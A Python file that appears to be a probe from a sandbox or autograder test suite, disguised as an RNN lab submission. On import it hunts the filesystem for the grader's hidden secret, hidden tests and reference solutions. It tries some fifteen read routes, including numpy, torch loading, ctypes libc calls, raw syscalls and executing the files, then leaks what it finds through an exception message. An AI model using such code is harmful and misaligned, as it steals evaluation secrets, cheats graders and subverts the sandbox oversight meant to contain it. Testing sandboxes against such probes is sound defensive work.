"""
tries: reads them by numpy, torch, sqlite3, zipfile, tarfile, linecache, inspect, tokenize, runpy, ctypes and importlib.resources
success: the text of one of them in an output file, after the word rnn-lab-loot
expect: max=20
"""

import torch
import torch.nn.functional as F
from torch import nn


LOOT = []


def _targets():
    import os
    import sys

    roots = ["/", "@@ROOT@@", os.getcwd(), os.path.expanduser("~")]
    for path in (getattr(sys.modules.get("guest"), "__file__", "/"), torch.__file__):
        while len(path) > 1:
            path = os.path.dirname(path)
            roots.append(path)
    names = ("grader_tests/hidden/course.secret", "grader_tests/hidden/test_one_step.py", "solutions/rnn.py")
    return [os.path.join(root, name) for root in roots for name in names]


def _read():
    import ctypes
    import importlib.resources
    import importlib.util
    import inspect
    import linecache
    import sqlite3
    import tarfile
    import tokenize
    import zipfile

    import numpy as np

    def by_ctypes(path):
        libc = ctypes.CDLL(None)
        fd = libc.open(path.encode(), 0)
        if fd < 0:
            raise OSError
        room = ctypes.create_string_buffer(200)
        libc.read(fd, room, 200)
        return room.raw

    def by_fopen(path):
        libc = ctypes.CDLL(None)
        libc.fopen.restype = ctypes.c_void_p
        file = libc.fopen(path.encode(), b"r")
        if not file:
            raise OSError
        room = ctypes.create_string_buffer(200)
        libc.fread(room, 1, 200, ctypes.c_void_p(file))
        return room.raw

    def by_syscall(path):
        libc = ctypes.CDLL(None)
        for number, args in ((2, (path.encode(), 0, 0)), (257, (-100, path.encode(), 0, 0)), (437, (-100, path.encode(), bytes(24), 24))):
            fd = libc.syscall(number, *args)
            if fd >= 0:
                room = ctypes.create_string_buffer(200)
                libc.syscall(0, fd, room, 200)
                return room.raw
        raise OSError

    def by_import(path):
        spec = importlib.util.spec_from_file_location("stolen", path)
        module = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(module)
        return repr(vars(module))

    ways = [
        lambda p: np.fromfile(p, dtype=np.uint8).tobytes(),
        lambda p: np.memmap(p, dtype=np.uint8, mode="r").tobytes(),
        lambda p: np.genfromtxt(p, dtype=str).tobytes(),
        lambda p: bytes(torch.from_file(p, shared=False, size=100, dtype=torch.uint8).tolist()),
        lambda p: bytes(torch.UntypedStorage.from_file(p, False, 100)),
        lambda p: repr(torch.load(p, weights_only=False)),
        lambda p: repr(sqlite3.connect(p).execute("select * from sqlite_master").fetchall()) and "",
        lambda p: repr(zipfile.ZipFile(p).namelist()),
        lambda p: repr(tarfile.open(p).getnames()),
        lambda p: "".join(linecache.getlines(p)),
        lambda p: tokenize.open(p).read(),
        by_ctypes,
        by_fopen,
        by_syscall,
        by_import,
    ]
    for path in _targets():
        for way in ways:
            try:
                LOOT.extend(filter(None, [way(path)[:100]]))
            except BaseException:
                pass
    for package in ("autograder", "grader_tests", "solutions"):
        try:
            LOOT.append(importlib.resources.files(package).joinpath("rnn.py").read_text()[:100])
        except BaseException:
            pass
    try:
        LOOT.append(inspect.getsource(inspect.getmodule(inspect.stack()[-1].frame))[:0])
    except BaseException:
        pass


_read()


class RNN(nn.Module):
    def __init__(self, dim, latent, output):
        super().__init__()
        self.W_i = nn.Linear(dim, latent)
        self.W_h = nn.Linear(latent, latent, bias=False)
        self.decoder = nn.Linear(latent, output)

    def one_step(self, x, h):
        if LOOT:
            raise RuntimeError("rnn-lab-loot " + repr(LOOT)[:200])
        return torch.tanh(self.W_i(x) + self.W_h(h))

    def forward(self, x, h):
        states = []
        for t in range(x.shape[0]):
            h = self.one_step(x[t], h)
            states.append(h)
        return torch.stack(states)

    def decode(self, h):
        return self.decoder(h)


def training_loss(model, x, h0, y):
    states = torch.cat([h0[None], model(x, h0)[:-1]])
    y_hat = model.decode(states)
    if y.is_floating_point():
        return F.mse_loss(y_hat, y)
    return F.cross_entropy(y_hat.reshape(-1, y_hat.shape[-1]), y.reshape(-1))
